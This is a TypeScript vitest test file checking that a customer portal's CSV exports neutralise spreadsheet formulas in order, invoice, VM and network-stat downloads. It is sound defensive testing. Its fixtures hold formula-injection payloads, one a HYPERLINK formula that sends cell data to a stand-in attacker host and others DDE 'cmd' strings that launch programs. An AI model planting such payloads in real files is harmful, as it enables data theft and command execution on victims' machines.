import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { NetworkOrder } from '@portal/contract';

import { download, parseCsv } from '../invoices/billing-fixtures.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { getCall, lastPointEnd, orderOf } from '../products/kit.ts';

/**
 * Every CSV the portal writes neutralises spreadsheet formulas: text starting with =, +, -, @, tab or
 * CR gets a leading apostrophe, so a spreadsheet shows it instead of running it. Each download is
 * tried with such text stored in the database through the provider's own data.
 */
let t: TestApp;
let customer: string;

const formulas = {
  equals: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
} as const;

const neutralised = (value: string) => `'${value}`;

beforeAll(async () => {
  t = await createTestApp();
  customer = await t.signIn('customer@demo.test');
});
afterAll(() => t.close());

/** The customer's first order of an invoiced account, given formula-looking text fields and an invoice line. */
async function orderWithFormulas() {
  const order = await t.db.one<{ base_order_id: number; account_id: number }>(
    `SELECT o.base_order_id, o.account_id FROM orders o
      WHERE o.account_id IN (SELECT au.account_id FROM accounts_users au JOIN users u ON u.user_id = au.user_id
                              WHERE u.email_nm = 'customer@demo.test')
        AND EXISTS (SELECT 1 FROM invoices i WHERE i.account_id = o.account_id)
      ORDER BY o.base_order_id LIMIT 1`,
  );
  if (!order) throw new Error('no order of an invoiced account');
  await t.db.query('UPDATE orders SET customer_ref = $2, uss_circuit_id = $3, alias = $4 WHERE base_order_id = $1', [
    order.base_order_id,
    formulas.equals,
    formulas.at,
    formulas.plus,
  ]);
  await t.db.query(
    `UPDATE invoice_products SET base_order_id = $1
      WHERE invoice_product_id = (SELECT min(ip.invoice_product_id) FROM invoice_products ip
                                    JOIN invoices i ON i.cycle_log_id = ip.cycle_log_id WHERE i.account_id = $2)`,
    [order.base_order_id, order.account_id],
  );
  return order;
}

describe('CSV downloads neutralise formulas', () => {
  it('invoices/download-invoice-product-history', async () => {
    const order = await orderWithFormulas();
    const res = await download(t, '/api/invoices/download-invoice-product-history', customer, {
      accountId: order.account_id,
    });
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.bytes.toString('utf8'));
    const column = (name: string) => (header as string[]).indexOf(name);
    const row = rows.find((r) => r[column('Customer Reference')] === neutralised(formulas.equals));
    expect(row).toBeDefined();
    expect(row?.[column('Circuit ID')]).toBe(neutralised(formulas.at));
    // A price is a number, credits included: it stays one.
    for (const r of rows) expect(r[column('Price')]).toMatch(/^-?\d+\.\d{2}$/);
  });

  it('orders/download-orders', async () => {
    const order = await orderWithFormulas();
    const res = await download(t, '/api/orders/download-orders', customer, { accountId: order.account_id });
    expect(res.status).toBe(200);
    const text = res.bytes.toString('utf8');
    const rows = parseCsv(text);
    const row = rows.find((r) => r.includes(neutralised(formulas.equals)));
    expect(row).toBeDefined();
    expect(row).toContain(neutralised(formulas.at));
    expect(row).toContain(neutralised(formulas.plus));
    for (const value of Object.values(formulas)) expect(rows.flat()).not.toContain(value);
  });

  it('resource-pools/download-resource-pool-vms', async () => {
    const rp = await orderOf(t, 'customer@demo.test', 'resource-pool');
    const names = Object.values(formulas);
    for (const [i, name] of names.entries()) {
      await t.db.query(
        `INSERT INTO resource_pool_vms (base_order_id, name, memory_bytes, number_of_cpus) VALUES ($1, $2, $3, 2)`,
        [rp, name, -(i + 1) * 1024],
      );
    }
    const res = await getCall(t, 'resource-pools/download-resource-pool-vms', { baseOrderId: rp }, customer);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.raw);
    expect(header).toEqual(['Name', 'Memory (bytes)', 'Number of CPUs']);
    for (const [i, name] of names.entries()) {
      // The text is neutralised; the number beside it, negative or not, stays a number.
      expect(rows).toContainEqual([neutralised(name), String(-(i + 1) * 1024), '2']);
    }
  });

  it('network/download-network-stats: every cell goes through the writer; numbers stay numbers', async () => {
    const network = await orderOf(t, 'customer@demo.test', 'network');
    const order = (await getCall(t, 'network/get-network-order', { baseOrderId: network }, customer)).body
      .data as NetworkOrder;
    const id = order.interfaces[0]?.snmpinterface_id;
    if (id === undefined) throw new Error('no interface');
    const end = await lastPointEnd(t, network);
    // The newest inbound rate of the interface, set below zero (-12.5 bits/s = -1.5625 octets/s).
    const newest = await t.db.one<{ ts: number; series_id: number }>(
      `SELECT extract(epoch FROM max(r.ts))::bigint AS ts, s.series_id
         FROM metric_raw r JOIN metric_series s ON s.series_id = r.series_id
        WHERE s.base_order_id = $1 AND s.metric = 'if_in_octets' AND s.labels->>'object_key' = $2
        GROUP BY s.series_id`,
      [network, String(id)],
    );
    await t.db.query('UPDATE metric_raw SET value = -1.5625 WHERE series_id = $1 AND ts = to_timestamp($2)', [
      newest?.series_id,
      newest?.ts,
    ]);
    const res = await getCall(
      t,
      'network/download-network-stats',
      { baseOrderId: network, interfaceId: id, chartType: 'bits', startDate: end - 86400, endDate: end },
      customer,
    );
    expect(res.status).toBe(200);
    expect(res.raw.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(res.raw);
    expect(header).toEqual(['Time (UTC)', 'In bits (bits/s)', 'Out bits (bits/s)']);
    const last = rows.find((r) => r[0] === new Date(Number(newest?.ts) * 1000).toISOString());
    expect(last?.[1]).toBe('-12.5');
  });
});
